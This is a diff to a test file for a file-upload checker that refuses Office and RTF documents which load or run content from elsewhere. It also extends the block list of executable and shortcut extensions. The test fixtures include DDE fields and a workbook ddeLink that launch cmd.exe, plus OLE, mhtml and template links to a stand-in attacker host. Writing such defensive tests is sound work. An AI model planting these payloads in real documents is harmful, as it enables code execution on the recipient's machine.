@@ -14,9 +14,9 @@ const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-F
 describe('a name that a machine would run is refused, whatever the file holds', () => {
   test.each(
     `exe dll com scr pif cpl bat cmd ps1 psm1 vbs vbe js mjs jse wsf wsh hta jar class apk ipa app sh bash reg inf gadget msc
-    py pl rb php`.split(/\s+/),
+    py pl rb php mdb one terminal mobileconfig prg shs`.split(/\s+/),
   )('.%s', (extension) => refusesName('program', extension)(`letter.${extension}`, PDF));
-  test.each('lnk url scf webloc desktop website'.split(' '))('.%s', (extension) =>
+  test.each('lnk url scf webloc desktop website rdp udl searchconnector-ms'.split(' '))('.%s', (extension) =>
     refusesName('shortcut', extension)(`letter.${extension}`, PDF),
   );
   test.each('msi dmg pkg deb rpm iso img vhd vhdx msix'.split(' '))('.%s', (extension) =>
@@ -270,7 +270,7 @@ describe('an Office document that loads its template', () => {
     await refusesWithin(zip([{ name: 'a.docx', content: withTemplate(target) }]), /loads a template/);
   });
 
-  test.each(['file:///C:\\Users\\Ann\\Templates\\Letter.dotx', 'Normal.dotm'])(
+  test.each(['file:///C:\\Users\\Ann\\Templates\\Letter.dotx', 'file:///Users/ann/Normal.dotm', 'Normal.dotm'])(
     'from its own drive is kept: %s',
     async (target) => expect(await checkFile('letter.docx', withTemplate(target))).toMatchObject({ preview: false }),
   );
@@ -328,6 +328,58 @@ describe('what people send is kept', () => {
 
 test('each refusal tells what to send instead', () => {
   for (const sentence of Object.values(REFUSALS)) expect(sentence).toMatch(/Please (send|save)/);
+});
+
+describe('an Office document', () => {
+  const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const withLink = (type: string, target: string, attributes = 'TargetMode="External"') =>
+    office('docx', {
+      name: 'word/_rels/document.xml.rels',
+      content: `<Relationships><r:Relationship ${attributes} Target='${target}' Id="a>b" Type="${TYPES}/${type}"/></Relationships>`,
+    });
+  const withField = (...pieces: string[]) =>
+    office('docx', {
+      name: 'word/header1.xml',
+      content: `<w:hdr><w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:instrText xml:space="preserve">${piece}</w:instrText>`).join('</w:r><w:r>')}<w:fldChar w:fldCharType="end"/></w:hdr>`,
+    });
+  const withBook = (content: string) => office('xlsx', { name: 'xl/externalLinks/externalLink1.xml', content });
+  const rich = (text: string) => latin1(`{\\rtf1\\ansi ${text}}`);
+
+  test.each<[string, Buffer]>([
+    ['embeds an object from the web', withLink('oleObject', 'https://evil.example/a.html!')],
+    ['embeds one in lower case', withLink('oleObject', 'mhtml:http://evil.example/a', 'targetmode="external"')],
+    ['loads a part of its text', withLink('aFChunk', '\\\\evil\\a.mht')],
+    ['loads a picture without encryption', withLink('image', 'http://evil.example/a.png')],
+    ['loads a picture from another computer', withLink('image', 'file:////evil/a.png')],
+    ['starts a program by a field', withField(' DD', 'EAUTO c:\\\\cmd.exe ')],
+    [
+      'starts a program by a simple field',
+      office('docx', { name: 'word/footer.xml', content: '<w:fldSimple w:instr=" DDE cmd">' }),
+    ],
+    [
+      'starts a program by a workbook link',
+      withBook('<externalLink><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>'),
+    ],
+    ['updates an object in rich text', rich('{\\object\\objautlink\\objupdate}')],
+  ])('that %s is refused', async (_, bytes) => {
+    await refuses('linked')('letter.docx', bytes);
+    await refusesWithin(zip([{ name: 'a.docx', content: bytes }]), /loads or runs something from elsewhere/);
+  });
+
+  test('of rich text that loads a template is refused', () =>
+    refuses('template')('letter.rtf', rich('{\\*\\template http://evil.example/a.dotm}')));
+
+  test.each<[string, Buffer]>([
+    ['has a link to the web', withLink('hyperlink', 'https://firm.example/a&amp;b')],
+    ['shows a picture of the web', withLink('image', 'https://firm.example/a.png')],
+    ['shows a picture of its own drive', withLink('image', 'file:///C:\\Pictures\\a.png')],
+    ['refers to another workbook beside it', withLink('externalLinkPath', 'Pensions%202026.xlsx')],
+    ['has fields of its own', withField(' HYPERLINK "https://firm.example/DDE" ')],
+    ['links workbooks', withBook('<externalLink><externalBook r:id="rId1"/></externalLink>')],
+    ['is rich text with a template of its own drive', rich('{\\*\\template C:\\\\Letters\\\\a.dot}{\\object\\objemb}')],
+  ])('that %s is kept', async (_, bytes) =>
+    expect(await checkFile('letter.docx', bytes)).toMatchObject({ preview: false }),
+  );
 });
 
 describe('a picture that unpacks to more than 50 million points is only downloaded', () => {
